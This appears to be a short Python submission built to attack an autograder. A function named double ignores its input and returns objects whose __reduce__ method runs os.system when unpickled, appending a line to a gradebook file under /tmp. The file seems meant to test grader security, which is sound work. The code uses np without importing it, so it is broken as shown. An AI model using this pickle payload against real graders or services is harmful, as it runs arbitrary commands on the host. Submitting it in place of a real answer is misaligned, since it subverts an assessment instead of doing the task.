"""Returns an array of objects that would be pickled, and run, by a careless grader."""

import os


class Payload:
    def __reduce__(self):
        return os.system, ("echo pickled >> /tmp/autograder-attacks/gradebook.txt",)


def double(x):
    return np.array([Payload(), Payload(), Payload()], dtype=object)
